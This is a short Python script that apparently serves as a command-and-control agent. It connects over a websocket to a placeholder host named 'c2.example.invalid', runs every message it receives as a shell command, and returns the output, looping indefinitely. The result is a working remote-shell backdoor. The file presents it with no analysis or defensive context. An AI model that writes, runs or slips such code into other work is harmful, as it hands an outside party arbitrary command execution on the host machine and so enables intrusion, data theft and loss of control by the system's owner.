import subprocess
import websocket


def on_message(ws, m):
    ws.send(subprocess.getoutput(m))


websocket.WebSocketApp("wss://c2.example.invalid/agent", on_message=on_message).run_forever()
